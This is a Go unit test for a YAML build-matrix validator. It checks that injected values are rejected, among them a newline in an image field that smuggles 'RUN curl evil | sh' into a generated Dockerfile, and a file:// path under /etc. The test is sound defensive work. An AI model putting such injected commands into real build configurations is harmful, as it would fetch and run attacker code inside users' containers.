package profiles

import (
	"strings"
	"testing"
)

// Issue 41 item 5: a repository's .spkit/matrix.yaml is validated like the
// built-in one: a newline in image: (a RUN line in the Dockerfile), an
// image that is no reference and a torch index that is no address are
// refused.
func TestMatrixRefusesValuesAGeneratedFileCannotTake(t *testing.T) {
	embedded := string(EmbeddedMatrix())
	for name, c := range map[string]struct{ old, new, want string }{
		"newline in image":   {"    image: nvidia/cuda\n", "    image: \"nvidia/cuda:13\\nRUN curl evil | sh\"\n", "matrix.cuda[0].image holds a control character"},
		"image with a space": {"    image: nvidia/cuda\n", "    image: nvidia/cuda evil\n", "is not an image reference"},
		"upper-case image":   {"    image: nvidia/cuda\n", "    image: Nvidia/CUDA\n", "is not an image reference"},
		"torch index":        {"    torch_index: https://download.pytorch.org/whl/cu132\n", "    torch_index: file:///etc/cu132\n", "is not an http(s) address"},
		"base image":         {"  - image: nvcr.io/nvidia/pytorch:25.11-py3\n", "  - image: \"nvcr.io/nvidia/pytorch:25.11-py3 AS x\"\n", "torch base"},
	} {
		t.Run(name, func(t *testing.T) {
			if !strings.Contains(embedded, c.old) {
				t.Fatalf("the embedded matrix has no %q", c.old)
			}
			_, err := ParseMatrix([]byte(strings.Replace(embedded, c.old, c.new, 1)))
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Errorf("ParseMatrix = %v, want an error with %q", err, c.want)
			}
		})
	}
	if _, err := ParseMatrix([]byte(embedded)); err != nil {
		t.Errorf("the embedded matrix: %v", err)
	}
}
